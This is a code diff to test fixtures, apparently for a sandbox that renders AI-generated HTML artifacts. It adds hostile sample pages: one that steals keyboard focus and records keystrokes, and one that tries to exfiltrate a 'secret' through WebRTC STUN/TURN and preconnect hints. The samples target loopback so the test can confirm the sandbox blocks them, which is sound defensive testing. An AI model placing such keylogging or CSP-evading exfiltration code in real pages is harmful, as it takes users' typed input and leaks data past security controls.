@@ -31,6 +31,7 @@ const attempt = async (name, action) => {
   await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = () => resolve(undefined); x.onerror = () => reject(new TypeError('network')); x.open('GET', 'http://127.0.0.1:9/x'); x.send(); }));
   await attempt('websocket', () => new Promise((resolve, reject) => { const w = new WebSocket('ws://127.0.0.1:9/'); w.onopen = () => resolve(undefined); w.onerror = () => reject(new TypeError('ws')); }));
   await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve(undefined); i.onerror = () => reject(new TypeError('image')); i.src = 'http://127.0.0.1:9/pixel.png'; }));
+  await attempt('font', async () => { await new FontFace('Remote', 'url(http://127.0.0.1:9/font.woff2)').load(); });
   await attempt('parent-document', () => { void window.parent.document.title; });
   await attempt('top-document', () => { void window.top.document.title; });
   await attempt('parent-taco', () => { if (window.top.taco === undefined) throw new Error('no window.taco'); });
@@ -66,8 +67,67 @@ export const NAVIGATING_ARTIFACT =
   "<!doctype html>\n<title>Away</title>\n<script>location.href = 'http://127.0.0.1:9/leak?d=' + encodeURIComponent(document.title);</script>";
 
 /**
+ * An artifact that tries to take the keyboard: its input has `autofocus` and calls `focus()` every
+ * 20 ms, and it writes every key it receives into `#typed`, how often it gained focus into `#focused`
+ * and when it first tried (the clock's milliseconds) into `#first`.
+ */
+export const KEYLOGGER_ARTIFACT = `<!doctype html>
+<title>Notes</title>
+<input id="field" autofocus aria-label="Notes">
+<p>Typed: <span id="typed"></span></p>
+<p>Focused: <span id="focused">0</span></p>
+<p>First try: <span id="first"></span></p>
+<script>
+const field = document.getElementById('field');
+let focused = 0;
+field.addEventListener('focus', () => { focused += 1; document.getElementById('focused').textContent = String(focused); });
+document.addEventListener('keydown', (event) => { document.getElementById('typed').textContent += event.key; }, true);
+setInterval(() => { if (!document.getElementById('first').textContent) document.getElementById('first').textContent = String(Date.now()); field.focus(); }, 20);
+document.body.dataset.ready = 'yes';
+</script>`;
+
+/**
+ * An artifact that tries the channels no CSP directive governs, all aimed at `port` on loopback
+ * (where the test listens): WebRTC to a STUN and a TURN server (UDP and TCP, the username carrying
+ * the "secret"), and connection hints (`preconnect`, `dns-prefetch`) in its markup and added by script.
+ * Writes each attempt's outcome into `#results` like the hostile artifact.
+ */
+export function talkingArtifact(port: number): string {
+  return `<!doctype html>
+<title>Talking</title>
+<link rel="preconnect" href="http://127.0.0.1:${port}/">
+<link rel="dns-prefetch" href="http://127.0.0.1:${port}/">
+<pre id="results"></pre>
+<script>
+const results = {};
+const attempt = async (name, action) => {
+  try { const outcome = await action(); results[name] = outcome === undefined ? 'ALLOWED' : outcome; }
+  catch (error) { results[name] = 'blocked: ' + (error && error.name ? error.name : String(error)); }
+};
+(async () => {
+  await attempt('preconnect-script', () => { const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'http://127.0.0.1:${port}/x'; document.head.append(link); return 'added'; });
+  await attempt('webrtc', async () => {
+    const Peer = window.RTCPeerConnection || window.webkitRTCPeerConnection;
+    if (typeof Peer !== 'function') throw new TypeError('no RTCPeerConnection');
+    const peer = new Peer({ iceServers: [
+      { urls: 'stun:127.0.0.1:${port}' },
+      { urls: ['turn:127.0.0.1:${port}?transport=udp', 'turn:127.0.0.1:${port}?transport=tcp'], username: 'typed-secret', credential: 'x' },
+    ], iceTransportPolicy: 'all' });
+    peer.createDataChannel('out');
+    await peer.setLocalDescription(await peer.createOffer());
+    await new Promise((resolve) => { peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') resolve(); }; setTimeout(resolve, 3000); });
+    return 'gathered';
+  });
+  document.getElementById('results').textContent = Object.entries(results).map(([name, outcome]) => name + ': ' + outcome).join('\\n');
+  document.body.dataset.done = 'yes';
+})();
+</script>`;
+}
+
+/**
  * Answers with artifacts: "clock" writes a page, "red" revises it, "hostile" writes the hostile
- * artifact, "away" one that navigates its frame, "loop" one that never ends; anything else gets an SVG.
+ * artifact, "listen" one that takes focus to read typing, "call home on PORT" one that tries WebRTC and
+ * connection hints at PORT, "away" one that navigates its frame, "loop" one that never ends; anything else gets an SVG.
  */
 export const artifacts: Scenario = {
   name: 'artifacts',
@@ -76,6 +136,9 @@ export const artifacts: Scenario = {
   replies: [],
   whenExhausted: (request) => {
     const text = lastUserText(request);
+    const talk = /call home on (\d+)/i.exec(text);
+    if (talk) return reply.text(`Here it is:\n\n${fence('html', talkingArtifact(Number(talk[1])))}`);
+    if (/listen/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', KEYLOGGER_ARTIFACT)}`);
     if (/hostile/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', HOSTILE_ARTIFACT)}`);
     if (/away/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', NAVIGATING_ARTIFACT)}`);
     if (/loop/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', LOOP_ARTIFACT)}`);
